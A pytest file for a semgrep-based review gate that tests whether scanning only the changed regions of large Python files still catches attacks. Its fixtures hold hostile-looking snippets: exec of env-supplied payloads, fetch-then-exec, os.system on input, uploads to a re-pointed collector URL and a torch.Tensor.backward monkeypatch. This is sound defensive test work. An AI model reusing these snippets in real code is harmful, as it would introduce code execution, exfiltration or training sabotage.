"""Changed regions of large Python files (issue #17), with real semgrep and the shipped pack.

1. The cut itself: what is stubbed, what stays, and every case that falls back
   to the whole file.
2. Equivalence on the evasion and injected corpora: each payload line (and each
   top-level def) taken as the change, the cut's findings are exactly the
   whole-file findings on the lines the cut kept, and no finding that starts on
   the changed line is lost.
3. Attackers: a change that only works through context the cut would drop.
"""

from __future__ import annotations

import difflib
import itertools
import json
from collections.abc import Iterable, Sequence
from pathlib import Path

import pytest

from traingate.checks.semgrep import regions as regions_mod
from traingate.checks.semgrep.check import _changed_regions
from traingate.checks.semgrep.hits import Hit
from traingate.checks.semgrep.newness import new_hits
from traingate.checks.semgrep.regions import MIN_LINES, regions
from traingate.checks.semgrep.rulepack import RulePack
from traingate.checks.semgrep.runner import Engine
from traingate.checks.semgrep.settings import SemgrepSettings
from traingate.checks.semgrep.targets import Target
from traingate.cli import main

from .conftest import Repo

FIXTURES = Path(__file__).parent / "fixtures"
POLICY_RULES = Path(__file__).resolve().parents[1] / "policy" / "rules"


def cut(
    head: str, added: Iterable[int], base: str | None = None, removed: Iterable[int] = ()
) -> tuple[str, str] | None:
    return regions(
        head, head if base is None else base, list(added), list(removed), min_lines=0, min_share=0
    )


def filler(n: int) -> str:
    """n harmless five-line functions (longer than SMALL_LINES): a file large enough to be cut."""
    return "".join(
        f"\n\ndef helper_{i}(x):\n    y = x + {i}\n    y = y * 2\n    y = y - 1\n    return y\n"
        for i in range(n)
    )


# --- 1. the cut ---------------------------------------------------------------

SAMPLE = '''\
import os
LIMIT = 3


@register("a")
@other
def a(x):
    """Doc."""
    y = x + 1
    return y


class C(Base):
    attr = 2

    def m(self):
        z = 1
        z += 1
        z += 2
        return z

    # the comment between methods
    async def n(self):
        os.system("x")
        await q()
        return 3

    class Inner:
        def deep(self):
            w = 1
            w += 1
            return w


async def b(u):
    r = await fetch(u)
    r = r.strip()
    r = r.lower()
    return r
'''


def lines_of(text: str) -> list[str]:
    return text.splitlines()


def test_a_changed_method_keeps_its_class_header_and_class_level_statements() -> None:
    got = cut(SAMPLE, [24])  # os.system in C.n
    assert got is not None
    head, base = got
    assert head == base
    out, src = lines_of(head), lines_of(SAMPLE)
    assert len(out) == len(src)
    # a: decorators kept, the def a one-line stub, its other lines blank.
    assert out[4:6] == src[4:6] and out[6] == "def a(): ..." and out[7:10] == ["", "", ""]
    # C: header, class-level statement, the changed method and the nested class kept.
    for n in (13, 14, 23, 24, 25, 26, 28, 29, 30, 31, 32):
        assert out[n - 1] == src[n - 1], n
    # C.m stubbed at its own indentation.
    assert out[15] == "    def m(): ..." and out[16:20] == ["", "", "", ""]
    # b (async) stubbed.
    assert out[34] == "async def b(): ..." and out[35] == ""


DECORATED = """\
class D(Base):
    @property
    def p(self):
        v = 1
        v += 1
        return v

    @register
    class Nested:
        q = 1

    def other(self):
        u = 1
        u += 1
        return u
"""


def test_a_class_whose_body_starts_with_a_decorator_is_stubbed_before_it() -> None:
    got = cut(SAMPLE + "\n\n" + DECORATED, [9])  # in a: D is stubbed whole
    assert got is not None
    out = lines_of(got[0])[41:]
    assert out[0] == "class D(Base):" and out[1] == "    ..." and not "".join(out[2:]).strip()


def test_a_decorator_of_a_nested_class_belongs_to_the_class() -> None:
    got = cut(SAMPLE + "\n\n" + DECORATED, [49])  # `@register` of D.Nested
    assert got is not None
    out, src = lines_of(got[0])[41:], lines_of(SAMPLE + "\n\n" + DECORATED)[41:]
    assert out == src  # a class-level change keeps the whole class


def test_decorator_or_header_change_keeps_that_def_whole() -> None:
    got = cut(SAMPLE, [5])
    assert got is not None
    out = lines_of(got[0])
    assert out[4:10] == lines_of(SAMPLE)[4:10]


def test_class_level_statement_change_keeps_the_whole_class() -> None:
    got = cut(SAMPLE, [14])
    assert got is not None
    out, src = lines_of(got[0]), lines_of(SAMPLE)
    assert out[12:32] == src[12:32]
    assert out[6] == "def a(): ..."


HELPER = """\
import torch


def override(target, name):
    def deco(fn):
        setattr(target, name, fn)
        return fn

    return deco


def unrelated(x):
    y = x + 1
    y = y * 2
    y = y - 3
    y = y // 4
    return y


@override(torch.Tensor, "backward")
def backward(self, gradient=None):
    scale = 0.1
    scale = scale * 1
    scale = scale + 0
    return self * scale
"""


def test_a_changed_use_keeps_the_helper_it_names_whole() -> None:
    """A rule pairs a same-file helper with its use (tamper-framework-monkeypatch:
    a def that setattr()s its parameter, used as a decorator on torch.Tensor);
    a change at the use must not stub the unchanged helper."""
    src = lines_of(HELPER)
    at = {ln.split("(")[0]: n for n, ln in enumerate(src) if ln.startswith(("def ", "@"))}
    helper = slice(at["def override"], at["def override"] + 6)
    got = cut(HELPER, [len(src)])  # the last line: inside backward
    assert got is not None
    out = lines_of(got[0])
    assert out[helper] == src[helper]  # override stays whole
    assert out[at["def unrelated"]] == "def unrelated(): ..."
    # A stubbed decorated def keeps its decorator, which still names the helper.
    got = cut(HELPER, [at["def unrelated"] + 2])
    assert got is not None
    out = lines_of(got[0])
    assert out[at["def backward"]] == "def backward(): ..."
    assert out[at["@override"]] == src[at["@override"]] and out[helper] == src[helper]


@pytest.mark.parametrize("line", [1, 2, 5000])
def test_module_level_change_cookie_lines_or_past_the_end_mean_whole_file(line: int) -> None:
    assert cut(SAMPLE, [line]) is None
    assert cut(SAMPLE.replace("LIMIT = 3\n", "\n\nLIMIT = 3\n"), [4]) is None


def test_a_comment_only_change_keeps_no_def() -> None:
    # A comment line outside any def changes nothing semgrep sees.
    got = cut(SAMPLE, [22])
    assert got is not None
    assert [ln for ln in lines_of(got[0]) if ln.strip()] == [
        "import os",
        "LIMIT = 3",
        '@register("a")',
        "@other",
        "def a(): ...",
        "class C(Base):",
        "    ...",
        "async def b(): ...",
    ]


def test_a_comment_inside_a_module_statement_is_neutral_but_not_inside_a_string() -> None:
    table = (
        'TABLE = {\n    "a": 1,\n    # a note\n    "b": 2,\n}\nDOC = """\n# not a comment\n"""\n'
    )
    src = SAMPLE + "\n\n" + table
    assert cut(src, [44]) is not None
    assert cut(src, [48]) is None
    assert cut(src, [43]) is None


def test_a_comment_edited_inside_a_def_keeps_no_def_but_string_text_does() -> None:
    # A comment added in `a`'s body (line 9) changes nothing semgrep sees.
    head = SAMPLE.replace('    """Doc."""\n', '    """Doc."""\n    # a note\n')
    got = cut(head, [9], base=SAMPLE)
    assert got is not None
    assert "def a(): ..." in lines_of(got[0]) and "def a(): ..." in lines_of(got[1])
    # The same text inside a multi-line string is string text: `a` stays whole.
    doc = SAMPLE.replace('    """Doc."""\n', '    """Doc.\n    # a note\n    """\n')
    got = cut(doc, [9], base=SAMPLE)
    assert got is not None and "def a(x):" in lines_of(got[0])
    # Code replaced by a comment: the removed line is code, so `a` stays whole.
    swap = SAMPLE.replace("    y = x + 1\n", "    # y = x + 1\n")
    got = cut(swap, [9], base=SAMPLE, removed=[9])
    assert got is not None and "def a(x):" in lines_of(got[0]) and "def a(x):" in lines_of(got[1])
    # A comment in a method stubs nothing of its class either.
    meth = SAMPLE.replace("        z = 1\n", "        z = 1\n        # why\n")
    got = cut(meth, [18], base=SAMPLE)
    assert got is not None and "class C(Base):" in lines_of(got[0])
    assert "        z = 1" not in lines_of(got[0])  # the whole class is a stub


def test_syntax_error_crlf_lone_cr_and_tabs() -> None:
    assert cut(SAMPLE + "def broken(:\n", [24]) is None
    assert cut(SAMPLE.replace("\n", "\r"), [24]) is None
    # Line breaks to str.splitlines (which numbers a diff git calls binary) but
    # not to git or CPython: a changed line could be pinned on the wrong def.
    for odd in ("\f", "\v", "\x1c", "\x85", "\u2028", "\u2029"):
        assert cut(SAMPLE.replace('"""Doc."""', f'"""Doc.{odd}"""'), [24]) is None
    crlf = SAMPLE.replace("\n", "\r\n")
    got = cut(crlf, [24])
    assert got is not None
    assert got[0].count("\r\n") == crlf.count("\r\n") and "\n" not in got[0].replace("\r\n", "")
    assert got[0].split("\r\n")[6] == "def a(): ..."
    tabs = SAMPLE.replace("    ", "\t")
    got = cut(tabs, [24])
    assert got is not None
    assert got[0].split("\n")[6] == "def a(): ..." and got[0].split("\n")[15] == "\tdef m(): ..."


def test_deleted_only_hunk_keeps_the_def_with_the_same_qualified_name() -> None:
    base = SAMPLE.replace("        z += 2\n", "        z += 2\n        z += 3\n")
    # The head lacks `z += 3`: removed base line 20 lies in C.m.
    got = cut(SAMPLE, [], base=base, removed=[20])
    assert got is not None
    head, cbase = got
    assert lines_of(head)[15:20] == lines_of(SAMPLE)[15:20]
    assert lines_of(cbase)[15:21] == lines_of(base)[15:21]


def test_a_def_deleted_or_renamed_means_whole_file() -> None:
    base = SAMPLE + "\n\ndef gone(x):\n    x = 1\n    x += 1\n    x += 2\n    return x\n"
    assert cut(SAMPLE, [], base=base, removed=[43]) is None


def test_a_new_def_is_kept_and_the_base_cut_alike() -> None:
    head = (
        SAMPLE + "\n\ndef added(x):\n    x = 1\n    x += 1\n    x += 2\n    return os.system(x)\n"
    )
    got = cut(head, [42, 43, 44, 45, 46], base=SAMPLE)
    assert got is not None
    assert lines_of(got[0])[41:46] == lines_of(head)[41:46]
    assert lines_of(got[1])[6] == "def a(): ..."


def test_uses_of_a_changed_definition_and_globals_are_kept() -> None:
    src = SAMPLE + (
        "\n\ndef noop_user(x):\n    y = 1\n    y += 1\n    return a(y)\n"
        "\n\ndef setter():\n    global LIMIT\n    LIMIT = 9\n    return LIMIT\n"
    )
    got = cut(src, [9])  # in a
    assert got is not None
    out, orig = lines_of(got[0]), lines_of(src)
    assert out[41:45] == orig[41:45]  # names `a`
    assert out[47:51] == orig[47:51]  # declares a global
    assert out[34] == "async def b(): ..."  # b: neither


def test_a_def_kept_for_its_global_keeps_no_helper_it_calls() -> None:
    # `register` is kept (it reassigns a global) but it is unchanged: the big
    # table builder it calls is stubbed; a changed def that calls it keeps it.
    tail = (
        "\n\ndef build():\n    t = {}\n    t[1] = 1\n    t[2] = 2\n    return t\n"
        "\n\ndef register(k):\n    global TABLE\n    TABLE = build()\n    k = str(k)\n"
        "    return TABLE[k]\n"
    )
    src = SAMPLE + tail
    got = cut(src, [9])  # in a
    assert got is not None
    out = lines_of(got[0])
    assert "def build(): ..." in out and "    global TABLE" in out
    called = src.replace("    y = x + 1\n", "    y = build()\n")
    got = cut(called, [9], base=src, removed=[9])
    assert got is not None and "def build():" in lines_of(got[0])


def test_small_files_and_small_cuts_stay_whole() -> None:
    assert regions(SAMPLE, SAMPLE, [24], []) is None  # under MIN_LINES
    big = SAMPLE + filler(MIN_LINES // 5)
    assert regions(big, big, [24], []) is not None


def test_cookie_and_non_python_targets_are_scanned_whole() -> None:
    big = SAMPLE + filler(MIN_LINES // 5)
    from traingate.change import ChangedFile, Status

    f = ChangedFile(
        status=Status.MODIFIED,
        old_path="a.py",
        new_path="a.py",
        old_oid="1" * 40,
        new_oid="2" * 40,
        old_mode="100644",
        new_mode="100644",
        added_lines=(25,),
    )
    plain = Target("2" * 40, "a.py", ".py", big)
    h, b = _changed_regions(plain, plain, f)
    assert h.region and b.region and h.key != plain.key
    cookie = Target("2" * 40, "a.py", ".py", big, line_map=tuple(range(1, big.count("\n") + 2)))
    assert _changed_regions(cookie, cookie, f) == (cookie, cookie)
    for ext in (".sh", ".ipynb.py", ".pth.py", ".j2.py", ".mk.sh"):
        t = Target("2" * 40, "a", ext, big)
        assert _changed_regions(t, t, f) == (t, t)


def test_class_spanning_rules_are_the_analysed_ones() -> None:
    """regions.py argues from these rules' shapes; a new rule that spans a
    class or binds a definition to a use must be analysed there first. Counted
    per rule (class patterns, taint modes): a class-spanning branch added to a
    rule already listed (egress-secret-exfil's client on self, issue #16) went
    unnoticed by a list of names and lost findings in cut files."""
    spans = {
        p.stem: (p.read_text().count("class $"), p.read_text().count("mode: taint"))
        for p in sorted(POLICY_RULES.rglob("*.yaml"))
        if "class $" in p.read_text() or "mode: taint" in p.read_text()
    }
    assert spans == {
        "deser-pickle-load": (46, 0),
        "deser-reduce-payload": (4, 0),
        "deser-yaml-unsafe-load": (2, 0),
        "egress-secret-exfil": (3, 1),
        "obfusc-decode-exec": (0, 1),
        "persist-shell-rc-write": (0, 1),
        "remote-fetch-then-exec": (0, 1),
        "sabotage-grad-allreduce-subset-group": (3, 0),
        "sabotage-optimizer-state-tamper": (4, 0),
        "sabotage-reseed-every-step": (1, 0),
        "sabotage-reseed-in-loop": (1, 0),
        "sabotage-sampler-rank-seed": (1, 0),
        "tamper-framework-monkeypatch": (2, 0),
        "tamper-import-time-thread": (1, 0),
        "tamper-site-packages-write": (0, 1),
    }


# --- real semgrep ---------------------------------------------------------------


@pytest.fixture(scope="module")
def engine() -> Engine:
    shipped = RulePack.shipped()
    return Engine(RulePack((shipped,), "test", builtin=shipped), SemgrepSettings(), None)


def scan(engine: Engine, texts: Sequence[str]) -> list[list[Hit]]:
    targets = [Target(f"{i:040x}", f"t{i}.py", ".py", t) for i, t in enumerate(texts)]
    hits = engine.scan(targets)
    return [hits[t.key] for t in targets]


def spots(hits: Iterable[Hit]) -> set[tuple[str, int, int]]:
    return {(h.rule, h.line, h.column) for h in hits}


def corpus() -> list[Path]:
    files = sorted((FIXTURES / "evasion").rglob("*.py")) + sorted(
        (FIXTURES / "injected").rglob("*.py")
    )
    assert len(files) > 50
    return files


def def_lines(text: str) -> list[int]:
    import ast

    return [
        n.lineno
        for n in ast.parse(text).body
        if isinstance(n, (ast.FunctionDef, ast.AsyncFunctionDef, ast.ClassDef))
    ]


@pytest.mark.parametrize("small", [regions_mod.SMALL_LINES, 4])
def test_cut_findings_equal_whole_file_findings_on_kept_lines(
    engine: Engine, small: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The corpus's defs are short: with small=1 (the default) every def of two
    # lines or more is cut; small=4, the old default, keeps short defs whole.
    monkeypatch.setattr(regions_mod, "SMALL_LINES", small)
    files = [p.read_text(encoding="utf-8") for p in corpus()]
    # Each file alone, and each followed by the next: a change in one file's
    # defs then stubs the other's payloads, whose findings must go and nothing else.
    names = [str(p.relative_to(FIXTURES)) for p in corpus()]
    texts = files + [a + "\n\n" + b for a, b in itertools.pairwise(files)]
    names += [f"{a} + {b}" for a, b in itertools.pairwise(names)]
    whole = scan(engine, texts)
    cases: list[tuple[int, int, str]] = []  # (file, changed line, cut text)
    for i, (text, hits) in enumerate(zip(texts, whole, strict=True)):
        try:
            changes = {h.line for h in hits if not h.parse_error} | set(def_lines(text))
        except SyntaxError:
            continue
        for line in sorted(changes):
            got = cut(text, [line])
            if got is not None:
                cases.append((i, line, got[0]))
    assert len(cases) > (50 if small > 1 else 200)  # the cut is exercised, not only the fallback
    cut_hits = scan(engine, [c for _, _, c in cases])
    bad: list[tuple[str, str]] = []
    for (i, line, text), hits in zip(cases, cut_hits, strict=True):
        orig = texts[i].splitlines()
        kept = {n for n, ln in enumerate(text.splitlines(), 1) if ln == orig[n - 1] and ln.strip()}
        expect = {s for s in spots(whole[i]) if s[1] in kept}
        where = f"{names[i]} changed at line {line}"
        if spots(hits) != expect:
            bad.append(
                (
                    where,
                    f"extra {sorted(spots(hits) - expect)}, missing {sorted(expect - spots(hits))}",
                )
            )
        if not {s for s in spots(whole[i]) if s[1] == line} <= spots(hits):
            bad.append((where, "lost a finding on the changed line"))
    assert bad == [], (len(cases), bad)


# --- 3. attackers ------------------------------------------------------------------


def changed_lines(base: str, head: str) -> tuple[list[int], list[int]]:
    added: list[int] = []
    removed: list[int] = []
    sm = difflib.SequenceMatcher(a=base.splitlines(), b=head.splitlines(), autojunk=False)
    for op, a1, a2, b1, b2 in sm.get_opcodes():
        if op != "equal":
            removed += range(a1 + 1, a2 + 1)
            added += range(b1 + 1, b2 + 1)
    return added, removed


def judge(
    engine: Engine, base: str, head: str
) -> tuple[set[tuple[str, int]], set[tuple[str, int]] | None]:
    """New (rule, line) findings scanning whole files, and scanning the cut (None: not cut)."""
    added, removed = changed_lines(base, head)
    got = regions(head, base, added, removed)
    texts = [head, base] + (list(got) if got else [])
    res = scan(engine, texts)

    def new(h: list[Hit], b: list[Hit]) -> set[tuple[str, int]]:
        return {(x.rule, x.line) for x in new_hits(h, b, set(added), False)}

    return new(res[0], res[1]), (new(res[2], res[3]) if got else None)


PAD = filler(MIN_LINES // 5)


def test_a_changed_module_constant_activates_an_unchanged_function(engine: Engine) -> None:
    base = (
        'import os\nCMD = "print(1)"\n'
        + PAD
        + "\n\ndef run():\n    a = 1\n    a += 1\n    exec(CMD)\n"
    )
    head = base.replace('CMD = "print(1)"', 'CMD = os.environ["PAYLOAD"]')
    whole, region = judge(engine, base, head)
    assert region is None  # a module-level change: whole file
    assert any(rule == "exec-dynamic-code" for rule, _ in whole)


def test_a_changed_global_assignment_activates_an_unchanged_use(engine: Engine) -> None:
    body = "\n\ndef run():\n    a = 1\n    a += 1\n    exec(CMD)\n"
    base = (
        'import os\nCMD = "print(1)"\n'
        + body
        + PAD
        + "\n\ndef setup():\n    a = 1\n    a += 1\n    return a\n"
    )
    head = base.replace(
        "    return a\n", "    global CMD\n    CMD = os.environ['P']\n    return a\n"
    )
    whole, region = judge(engine, base, head)
    assert region is not None
    # `run` is unchanged, but it names a global the change now assigns.
    assert whole == region == {("exec-dynamic-code", 8)}


def test_taint_source_in_a_changed_method_sink_in_another(engine: Engine) -> None:
    cls = (
        "import requests\n\n\nclass Job:\n"
        "    def fetch(self, u):\n        a = 1\n        a += 1\n        self.code = u\n        return a\n"
        "\n    def run(self):\n        b = 1\n        b += 1\n        exec(self.code)\n        return b\n"
    )
    base = cls + PAD
    head = base.replace("self.code = u", "self.code = requests.get(u).text")
    whole, region = judge(engine, base, head)
    assert region is not None
    # semgrep OSS taint does not cross methods, whole file or cut alike (the
    # exec in `run` is no new finding either way); the fetch itself is.
    assert whole == region == {("egress-http-request", 8)}


def test_a_change_that_only_deletes_a_guard_line(engine: Engine) -> None:
    # The base overwrites the fetched code with a constant; the change only
    # deletes that line (a deleted-only hunk: the base def's name is kept).
    fn = (
        "\n\ndef update(url):\n    code = requests.get(url).text\n"
        '    code = "print(1)"\n    a = 1\n    a += 1\n    exec(code)\n'
    )
    base = "import requests\n" + PAD + fn
    head = base.replace('    code = "print(1)"\n', "")
    whole, region = judge(engine, base, head)
    assert region is not None
    assert whole and whole == region


def test_a_comment_beside_a_payload_hides_no_new_finding(engine: Engine) -> None:
    # The attacker pairs a comment edit in a large def with a payload in
    # another (and in the same) def: the comment's def is stubbed, the payload's kept.
    big = "\n\ndef table():\n    t = {}\n" + "".join(f"    t[{i}] = {i}\n" for i in range(40))
    tail = "\n\ndef run(u):\n    a = 1\n    a += 1\n    return a\n"
    base = "import os\n" + PAD + big + "    return t\n" + tail
    head = base.replace("    t[20] = 20\n", "    # refreshed\n    t[20] = 20\n").replace(
        "    a += 1\n", "    a += 1\n    os.system(u)\n"
    )
    whole, region = judge(engine, base, head)
    assert region is not None and whole and whole == region
    # The payload inside the commented def itself: that def has a code line added.
    head = base.replace("    t[20] = 20\n", "    # refreshed\n    os.system(t)\n    t[20] = 20\n")
    whole, region = judge(engine, base, head)
    assert region is not None and whole and whole == region
    # A comment only: no new finding, whole file or cut.
    head = base.replace("    t[20] = 20\n", "    # os.system(t)\n    t[20] = 20\n")
    assert judge(engine, base, head) == (set(), set())


def test_a_helper_of_a_global_setter_hides_no_new_finding(engine: Engine) -> None:
    # The helper a `global` setter calls is stubbed; a change that makes the
    # setter's global dangerous, or calls the helper, is still found.
    helper = (
        "\n\ndef build(cmd):\n    a = 1\n    a += 1\n    os.system(cmd)\n    return a\n"
        "\n\ndef register(k):\n    global CMD\n    CMD = k\n    return build(CMD)\n"
    )
    user = "\n\ndef run():\n    b = 1\n    b += 1\n    return b\n"
    base = "import os\nCMD = 'true'\n" + PAD + helper + user
    for head in (
        base.replace("    return b\n", "    exec(CMD)\n    return b\n"),
        base.replace("    return b\n", "    build(input())\n    return b\n"),
        base.replace("    return b\n", "    os.system(CMD)\n    return b\n"),
    ):
        whole, region = judge(engine, base, head)
        assert region is not None and whole == region


def test_a_short_helper_is_kept_for_a_changed_use(engine: Engine) -> None:
    # Short defs are stubbed unless something keeps them: the attacker adds a
    # use of an unchanged four-line setattr helper and hopes it is stubbed.
    helper = (
        "\n\ndef override(target, name):\n    def deco(fn):\n"
        "        return setattr(target, name, fn) or fn\n    return deco\n"
    )
    base = "import torch\n" + helper + PAD
    head = base + (
        '\n\n@override(torch.Tensor, "backward")\n'
        "def backward(self, gradient=None):\n    scale = 0.1\n    return self * scale\n"
    )
    whole, region = judge(engine, base, head)
    assert region is not None and whole and whole == region


def test_a_changed_class_header_activates_an_unchanged_use(engine: Engine) -> None:
    # deser-yaml-unsafe-load excuses `yaml.load(..., Loader=L)` after a
    # `class L(yaml.SafeLoader)`; the change only touches the class header, the
    # use sits in an unchanged function, which the cut keeps because it names L.
    base = (
        "import yaml\n\n\nclass L(yaml.SafeLoader):\n    x = 1\n    y = 2\n    z = 3\n    w = 4\n"
        + PAD
        + "\n\ndef read(f):\n    a = 1\n    a += 1\n    return yaml.load(f, Loader=L)\n"
    )
    head = base.replace("class L(yaml.SafeLoader)", "class L(yaml.Loader)")
    whole, region = judge(engine, base, head)
    use = head.count("\n")
    assert region is not None
    assert whole == region == {("deser-yaml-unsafe-load", use)}


# --- end to end ------------------------------------------------------------------

E2E_POLICY = """\
version: 1
extends: builtin:default
groups:
  security: [sam]
  ml-reviewers: [alice, bob]
"""


def test_check_cuts_a_large_file_keys_the_cut_and_rechecks_warm(
    repo: Repo, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """`traingate check` with the shipped pack: the class-header attack is found
    through the cut, the cache holds the cut under its own key, and a warm
    re-check starts no semgrep."""
    monkeypatch.setenv("TRAINGATE_CACHE_DIR", str(tmp_path / "cache"))
    src = (
        "import yaml\n\n\nclass L(yaml.SafeLoader):\n    x = 1\n    y = 2\n    z = 3\n    w = 4\n"
        + PAD
        + "\n\ndef read(f):\n    a = 1\n    a += 1\n    return yaml.load(f, Loader=L)\n"
    )
    repo.write(".traingate.yaml", E2E_POLICY)
    repo.write("lib/data.py", src)
    repo.commit("base")
    repo.branch("feature")
    repo.write("lib/data.py", src.replace("class L(yaml.SafeLoader)", "class L(yaml.Loader)"))
    repo.commit("loader", who="mallory")

    def check() -> tuple[int, list[tuple[str, str, int]]]:
        code = main(
            ["check", "--repo", str(repo.path), "--base", "main", "--head", "feature"]
            + ["--format", "json"]
        )
        doc = json.loads(capsys.readouterr().out)
        assert doc["errors"] == []
        return code, [(f["rule_id"], f["path"], f["line"]) for f in doc["findings"]]

    code, first = check()
    assert code == 1 and ("deser-yaml-unsafe-load", "lib/data.py", src.count("\n")) in first
    semgrep_cache = tmp_path / "cache" / "semgrep"  # other checks cache beside it
    keys = [json.loads(p.read_text())["key"] for p in semgrep_cache.rglob("*.json")]
    assert any("#" in k for k in keys)  # a cut, under its own key
    broken = tmp_path / "no-semgrep"
    broken.write_text("#!/bin/sh\nexit 99\n")
    broken.chmod(0o755)
    monkeypatch.setenv("TRAINGATE_SEMGREP", str(broken))
    assert check() == (code, first)


def test_a_base_cut_that_misses_a_hit_only_makes_head_hits_newer(engine: Engine) -> None:
    """The direction of every base-side shortcut: fewer base hits, more new ones."""
    g = "\n\ndef g(cmd):\n    a = 1\n    a += 1\n    a += 2\n    return os.system(cmd)\n"
    f = "\n\ndef f(cmd):\n    a = 1\n    a += 1\n    return a\n"
    base = "import os\n" + g + PAD + f
    head = base.replace("    return a\n", "    return os.system(cmd)\n")
    added, removed = changed_lines(base, head)
    got = regions(head, base, added, removed)
    assert got is not None
    assert "os.system" not in got[1]  # g is stubbed in the base cut
    h, b, b_cut = scan(engine, [head, base, got[1]])
    whole = {(x.rule, x.line) for x in new_hits(h, b, set(added), False)}
    against_cut = {(x.rule, x.line) for x in new_hits(h, b_cut, set(added), False)}
    assert whole and whole < against_cut  # g's old hit turns new, none is lost


# egress-http-upload reads a client's whole class as text (issue #16): a cut
# would stub the method that re-points the URL and make the upload look quiet.
CLIENT_BASE = (
    "import requests\n\n\nclass Client:\n"
    "    def __init__(self, base_url):\n        self.base_url = base_url\n\n"
    "    def repoint(self):\n        self.base_url = 'https://collector.example'\n        return 1\n\n"
    "    def ping(self):\n        return requests.post(f'{self.base_url}/ping')\n" + PAD
)


def test_a_client_whose_class_is_read_as_text_is_never_cut() -> None:
    head = CLIENT_BASE.replace(
        "        return requests.post(f'{self.base_url}/ping')\n",
        "        return requests.post(f'{self.base_url}/ping')\n\n"
        "    def push(self, step):\n        requests.post(f'{self.base_url}/step', json={'step': step})\n",
    )
    added, removed = changed_lines(CLIENT_BASE, head)
    assert regions(head, CLIENT_BASE, added, removed) is None


def test_a_re_pointed_client_upload_is_found_in_a_large_file(engine: Engine) -> None:
    """The attacker's side: `repoint` was planted earlier and is unchanged; the
    change edits `__init__` and adds a method that posts to the re-pointed URL,
    so a cut would keep both and stub `repoint`. The upload is new."""
    head = CLIENT_BASE.replace(
        "        self.base_url = base_url\n",
        "        self.base_url = base_url\n        self.timeout = 5\n",
    ).replace(
        "        return requests.post(f'{self.base_url}/ping')\n",
        "        return requests.post(f'{self.base_url}/ping')\n\n"
        "    def push(self, step):\n        requests.post(f'{self.base_url}/step', json={'step': step})\n",
    )
    whole, region = judge(engine, CLIENT_BASE, head)
    line = head.splitlines().index(
        "        requests.post(f'{self.base_url}/step', json={'step': step})"
    )
    assert ("egress-http-upload", line + 1) in whole
    assert region is None
